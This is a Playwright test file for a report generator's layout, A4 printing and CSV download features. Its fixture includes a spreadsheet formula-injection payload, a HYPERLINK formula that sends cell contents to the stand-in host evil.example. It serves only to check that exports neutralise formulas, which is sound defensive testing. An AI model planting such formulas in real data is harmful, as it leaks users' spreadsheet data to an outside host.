"""Report layout, printing and CSV downloads in a real browser (headless Debian Chromium via
Playwright; leankit issue 12, items 6 "Layout" and 7 "Downloads").

* At 1440 x 900 and 390 x 844 the page never scrolls sideways
  (``document.documentElement.scrollWidth <= innerWidth``): a wide table scrolls inside its
  own box; the contents collapse behind a button on narrow screens.
* Printing to A4: the report's CSS sets 12.7 mm page margins, so the printable width is
  (210 mm - 2 x 12.7 mm) / 25.4 mm/in x 96 px/in = 697.7 px; every chart is re-laid out to
  its box in the print layout (which must stay 698 px wide: Chromium lays a page whose
  content is too wide out wider and shrinks it), no plotly toolbar, contents or buttons are
  printed, and a long table prints its first 20 rows with a line saying how many there are.
* "Download CSV" saves the table's rows (all of them, up to 5,000, not only the ones shown)
  with no network request; text cells starting with =, +, -, @ get a leading apostrophe
  (OWASP "CSV Injection"), numbers are written as numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest

pytestmark = pytest.mark.browser

A4_PRINTABLE_PX = (210 - 2 * 12.7) / 25.4 * 96  # 697.7 px: A4 less report.css's margins
SIZES = {"desktop": (1440, 900), "phone": (390, 844)}
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'

ALL_PLOTTED = """() => {
  const plots = Array.from(document.querySelectorAll('.lk-plot'));
  return plots.length > 0 && plots.every(p => p.querySelector('.main-svg') !== null);
}"""


class Log:
    """Console errors, uncaught exceptions and non-local requests of a page."""

    def __init__(self, page: Any) -> None:
        self.errors: list[str] = []
        self.requests: list[str] = []
        page.on("console", lambda m: self.errors.append(m.text) if m.type == "error" else None)
        page.on("pageerror", lambda e: self.errors.append(str(e)))
        page.on("request", lambda r: self.requests.append(r.url))

    def assert_clean(self) -> None:
        assert self.errors == [], self.errors
        # file:// (the report) and data: URLs never leave the machine; the CSV download
        # (a blob: URL) makes no request at all
        external = [u for u in self.requests if not u.startswith(("file://", "data:"))]
        assert external == [], external


@pytest.fixture
def open_at(browser: Any) -> Iterator[Any]:
    """``open_at(path, (width, height)) -> (page, log)``: a fresh context at that size."""
    contexts = []

    def _open(path: Path, size: tuple[int, int]) -> tuple[Any, Log]:
        ctx = browser.new_context(viewport={"width": size[0], "height": size[1]},
                                  accept_downloads=True)
        contexts.append(ctx)
        page = ctx.new_page()
        log = Log(page)
        page.goto(path.resolve().as_uri(), wait_until="load")
        return page, log

    yield _open
    for ctx in contexts:
        ctx.close()


def render_all(page: Any) -> None:
    page.evaluate("window.leankitRenderAll()")
    page.wait_for_function(ALL_PLOTTED, timeout=60_000)
    page.wait_for_timeout(150)


# ---------------------------------------------------------------- a wide report
def wide_frame() -> pd.DataFrame:
    """150 rows x 31 columns: numbers too wide for any screen, text that looks like
    formulas, negative numbers, commas, quotes and line breaks."""
    rng = np.random.default_rng(2026)
    df = pd.DataFrame({f"measurement column {i}": rng.normal(-5e4, 1e5, 150).round(4)
                       for i in range(30)})
    names = [HYPERLINK, "-5", "@SUM(A1:A9)", "+1+1", "plain, with a comma", 'a "quote"',
             "two\nlines", "Burr"]
    df.insert(0, "note", [names[i % len(names)] for i in range(150)])
    return df


@pytest.fixture(scope="module")
def wide_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    import plotly.graph_objects as go

    from leankit.reports import Report

    rep = Report(title="Layout check")
    rep.add_table(wide_frame(), heading="Wide table", section="Tables")
    rep.add_table(pd.DataFrame({"k": [1, 2, 3], "label": ["a", "b", "-c"]}),
                  heading="Small table", section="Tables", open=False)
    for i in range(4):
        fig = go.Figure(go.Scatter(x=list(range(50)), y=np.sin(np.arange(50) / (i + 2))))
        fig.update_layout(height=300, xaxis_title="hour (h)", yaxis_title="value (mm)")
        rep.item("Charts", f"Chart {i}", [rep.figure(fig)], open=i == 0)
    return rep.write(tmp_path_factory.mktemp("layout") / "layout.html")


@pytest.fixture(params=["demo", "wide"])
def report(request: pytest.FixtureRequest) -> Path:
    return request.getfixturevalue(f"{request.param}_report")  # type: ignore[no-any-return]


# ----------------------------------------------------------------------- layout
@pytest.mark.parametrize("size", list(SIZES))
def test_the_page_never_scrolls_sideways(open_at, report, size):
    page, log = open_at(report, SIZES[size])
    render_all(page)
    info = page.evaluate("""() => ({
      scrollWidth: document.documentElement.scrollWidth, innerWidth: window.innerWidth,
      boxes: Array.from(document.querySelectorAll('.lk-scroll'))
        .map(b => ({right: b.getBoundingClientRect().right, inner: b.scrollWidth,
                    outer: b.clientWidth})),
      plots: Array.from(document.querySelectorAll('.lk-plot'))
        .map(p => p.getBoundingClientRect().right),
    })""")
    assert info["innerWidth"] == SIZES[size][0]
    assert info["scrollWidth"] <= info["innerWidth"], info["scrollWidth"]
    assert info["boxes"], "no tables"
    assert max(b["right"] for b in info["boxes"]) <= info["innerWidth"]
    assert max(info["plots"]) <= info["innerWidth"]
    if report.name == "layout.html":  # the wide table scrolls inside its box
        wide = info["boxes"][0]
        assert wide["inner"] > wide["outer"] + 500
        page.evaluate("document.querySelector('.lk-scroll').scrollLeft = 400")
        assert page.evaluate("document.querySelector('.lk-scroll').scrollLeft") > 0
        assert page.evaluate("window.scrollX") == 0
    log.assert_clean()


def test_contents_collapse_on_a_phone_and_open_with_their_button(open_at, wide_report):
    page, log = open_at(wide_report, SIZES["phone"])
    toc = page.locator("details.lk-toc-box")
    first = page.locator("nav.lk-toc a").first
    assert toc.evaluate("d => d.open") is False
    assert not first.is_visible()
    closed = page.locator("nav.lk-toc").bounding_box()
    assert closed is not None and closed["height"] < 60
    page.click("nav.lk-toc summary")
    assert toc.evaluate("d => d.open") is True
    assert first.is_visible()
    # following a link closes the contents again and goes to the section
    page.click("nav.lk-toc a[href='#charts']")
    page.wait_for_function("location.hash === '#charts'")
    assert toc.evaluate("d => d.open") is False
    # the window widened past 800 px: the contents show, and stay (no collapse button)
    page.set_viewport_size({"width": 1440, "height": 900})
    page.wait_for_function("document.querySelector('details.lk-toc-box').open")
    assert first.is_visible()
    assert page.eval_on_selector("nav.lk-toc summary",
                                 "s => getComputedStyle(s).pointerEvents") == "none"
    log.assert_clean()


def test_contents_are_open_on_a_desktop(open_at, wide_report):
    page, log = open_at(wide_report, SIZES["desktop"])
    assert page.locator("details.lk-toc-box").evaluate("d => d.open") is True
    assert page.locator("nav.lk-toc a").first.is_visible()
    toc, article = (page.locator(s).bounding_box() for s in ("nav.lk-toc", "article"))
    assert toc is not None and article is not None
    assert article["x"] >= toc["x"] + toc["width"]  # beside the report
    log.assert_clean()


# ------------------------------------------------------------------------ print
PRINT_RECORDER = """() => {
  window.__printed = [];
  // registered after report.js's listener, so it sees the charts as they are printed
  window.matchMedia('print').addEventListener('change', e => {
    if (!e.matches) { return; }
    const plots = Array.from(document.querySelectorAll('.lk-plot'));
    const shown = el => el.getClientRects().length > 0;
    window.__printed.push({
      pageWidth: document.documentElement.clientWidth,
      plots: plots.length,
      drawn: plots.filter(p => p.querySelector('.main-svg')).length,
      rights: plots.map(p => { const s = p.querySelector('.main-svg');
                               return s ? s.getBoundingClientRect().right : 1e9; }),
      widths: plots.map(p => { const s = p.querySelector('.main-svg');
                               return s ? s.getBoundingClientRect().width : 0; }),
      toolbars: Array.from(document.querySelectorAll('.modebar')).filter(shown).length,
      toc: shown(document.querySelector('nav.lk-toc')),
      buttons: Array.from(document.querySelectorAll('.lk-csv-btn')).filter(shown).length,
      closed: document.querySelectorAll('details.lk-item:not([open])').length,
    });
  });
}"""


@pytest.mark.parametrize("prerender", [False, True], ids=["lazy", "all-drawn"])
def test_printing_to_a4_lays_every_chart_out_within_the_page(open_at, demo_report,
                                                             prerender):
    """A real print (page.pdf) from a 1440 px window: Chromium fires beforeprint, then lays
    the page out for paper; the charts must fit the 697.7 px A4 width, whether they were
    drawn for the screen first or not drawn yet (lazy)."""
    page, log = open_at(demo_report, SIZES["desktop"])
    if prerender:
        render_all(page)
    closed_before = page.evaluate("document.querySelectorAll('details.lk-item:not([open])')"
                                  ".length")
    page.evaluate(PRINT_RECORDER)
    pdf = page.pdf(format="A4")
    assert pdf[:5] == b"%PDF-" and len(pdf) > 100_000
    (seen,) = page.evaluate("window.__printed")
    # the page is laid out at the printable width, not widened and shrunk to fit
    assert abs(seen["pageWidth"] - A4_PRINTABLE_PX) <= 1, seen["pageWidth"]
    assert seen["drawn"] == seen["plots"] >= 10
    assert max(seen["rights"]) <= seen["pageWidth"], max(seen["rights"])
    assert min(seen["widths"]) >= 0.9 * A4_PRINTABLE_PX  # and use the page's width
    assert seen["toolbars"] == 0
    assert seen["toc"] is False and seen["buttons"] == 0
    assert seen["closed"] == 0  # every item printed open
    # afterwards: the items closed before are closed again, the charts of the open
    # items are back at the screen's width
    page.wait_for_timeout(300)
    assert page.evaluate("document.querySelectorAll('details.lk-item:not([open])')"
                         ".length") == closed_before
    widths = page.evaluate("""() => Array.from(document.querySelectorAll('.lk-plot'))
        .filter(p => p.getClientRects().length && p.querySelector('.main-svg'))
        .map(p => p.querySelector('.main-svg').getBoundingClientRect().width)""")
    assert widths and min(widths) > 1000
    if prerender:
        log.assert_clean()
        return
    # an item closed again after printing shows its chart at the screen's width when opened
    anchor = page.evaluate("document.querySelector('details.lk-item:not([open]) .lk-plot')"
                           ".closest('details').id")
    item = page.locator(f"details#{anchor}")
    item.locator("summary").click()
    svg = item.locator(".lk-plot .main-svg").first
    svg.wait_for(timeout=30_000)
    page.wait_for_timeout(300)
    box = svg.bounding_box()
    assert box is not None and box["width"] > 1000
    log.assert_clean()


def test_print_media_at_the_a4_width(open_at, wide_report, tmp_path):
    """Emulated print media at the A4 printable width after beforeprint: charts within the
    width, no toolbar, contents or buttons, every item open, a long table summarised."""
    page, log = open_at(wide_report, SIZES["desktop"])
    render_all(page)
    page.emulate_media(media="print")
    width = round(A4_PRINTABLE_PX)
    page.set_viewport_size({"width": width, "height": 1000})
    page.evaluate("window.dispatchEvent(new Event('beforeprint'))")
    page.wait_for_timeout(300)
    rights = page.evaluate("""() => Array.from(document.querySelectorAll('.js-plotly-plot'))
        .map(p => Math.max(p.getBoundingClientRect().right,
                           p.querySelector('.main-svg').getBoundingClientRect().right))""")
    assert len(rights) == 4 and max(rights) <= width
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    assert page.locator(".modebar").count() == 4
    for sel in (".modebar", "nav.lk-toc", ".lk-csv-btn"):
        assert all(not x.is_visible() for x in page.locator(sel).all()), sel
    assert page.evaluate("document.querySelectorAll('details.lk-item:not([open])').length") == 0
    # the 150-row table: 60 rows in the page, 20 printed, and a line about the others
    box = page.locator(".lk-table-box.lk-long")
    assert box.count() == 1
    rows = box.locator("tbody tr")
    assert rows.count() == 60
    assert sum(r.is_visible() for r in rows.all()) == 20
    note = box.locator(".lk-print-only")
    assert note.is_visible()
    assert note.inner_text() == ("Printed: the first 20 of 150 rows; the others are in the "
                                 "HTML report and its CSV download.")
    # the small table is printed whole
    small = page.locator(".lk-table-box").nth(1).locator("tbody tr")
    assert sum(r.is_visible() for r in small.all()) == 3
    pdf = page.pdf(format="A4")
    (tmp_path / "layout.pdf").write_bytes(pdf)
    assert pdf[:5] == b"%PDF-" and len(pdf) > 10_000
    log.assert_clean()


def test_the_long_quarantine_table_is_summarised_in_print(open_at, demo_report):
    from leankit.io import Dataset

    ds = Dataset(demo_report.parent / "data")
    total = sum(ds.read_arrow(k, quarantine=True).num_rows
                for k in ("measurements", "defects", "production", "specs"))
    assert total > 30  # long: the mechanism is exercised
    page, log = open_at(demo_report, SIZES["desktop"])
    page.emulate_media(media="print")
    page.evaluate("window.dispatchEvent(new Event('beforeprint'))")
    item = page.locator("details#quarantined-rows")
    assert item.evaluate("d => d.open") is True
    shown = [r.is_visible() for r in item.locator("tbody tr").all()]
    assert len(shown) == min(total, 100) and sum(shown) == 20
    assert item.locator(".lk-print-only").inner_text().startswith(
        f"Printed: the first 20 of {total} rows")
    log.assert_clean()


# -------------------------------------------------------------------- downloads
def read_download(page: Any, button: Any) -> tuple[str, str]:
    with page.expect_download() as info:
        button.click()
    dl = info.value
    path = dl.path()
    assert path is not None
    return dl.suggested_filename, Path(path).read_bytes().decode("utf-8")


def test_download_csv_saves_every_row_with_formulas_neutralised(open_at, wide_report):
    page, log = open_at(wide_report, SIZES["desktop"])
    box = page.locator("details#wide-table .lk-table-box")
    assert box.locator("tbody tr").count() == 60  # the page shows 60 rows ...
    name, text = read_download(page, box.get_by_role("button", name="Download CSV"))
    assert name == "wide-table.csv"
    assert text.startswith("\ufeff")  # UTF-8 byte order mark, for spreadsheets
    body = text[1:]
    assert body.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(body, newline="")))
    df = wide_frame()
    assert len(rows) == 1 + len(df)  # ... the CSV has all 150
    assert rows[0] == list(df.columns)
    notes = [r[0] for r in rows[1:]]
    assert notes[0] == "'" + HYPERLINK
    assert notes[:8] == ["'" + HYPERLINK, "'-5", "'@SUM(A1:A9)", "'+1+1",
                         "plain, with a comma", 'a "quote"', "two\nlines", "Burr"]
    assert not any(n.startswith(("=", "+", "-", "@")) for n in notes)
    # numbers are numbers: negative values keep their sign and all their digits
    back = pd.read_csv(io.StringIO(body))
    for col in df.columns[1:]:
        assert back[col].tolist() == df[col].tolist(), col
    assert (df.iloc[:, 1:] < 0).to_numpy().any()
    assert any(r[1].startswith("-") for r in rows[1:])
    # a second table of the same section has its own file
    page.click("details#small-table > summary")
    name2, text2 = read_download(
        page, page.locator("details#small-table").get_by_role("button", name="Download CSV"))
    assert name2 == "small-table.csv"
    assert text2 == "\ufeffk,label\r\n1,a\r\n2,b\r\n3,'-c\r\n"
    log.assert_clean()


def test_download_csv_of_the_demo_quarantine(open_at, demo_report):
    """The quarantine's CSV lists every quarantined row of the dataset (independent
    count: the dataset's quarantine tables)."""
    from leankit.io import Dataset

    ds = Dataset(demo_report.parent / "data")
    expected = []
    for kind in ("measurements", "defects", "production", "specs"):
        q = ds.read_arrow(kind, quarantine=True).to_pandas()
        expected += [(kind, str(f), str(r))
                     for f, r in zip(q["source_file"], q["source_row"], strict=True)]
    page, log = open_at(demo_report, SIZES["desktop"])
    page.click("details#quarantined-rows > summary")
    name, text = read_download(page, page.locator("details#quarantined-rows")
                               .get_by_role("button", name="Download CSV"))
    assert name == "quarantined-rows.csv"
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert rows[0] == ["table", "source_file", "source_row", "reason_code", "reason", "raw"]
    assert [(r[0], r[1], r[2]) for r in rows[1:]] == expected
    assert all(re.fullmatch(r"\d+", r[2]) for r in rows[1:])  # row numbers, no "2,528"
    log.assert_clean()
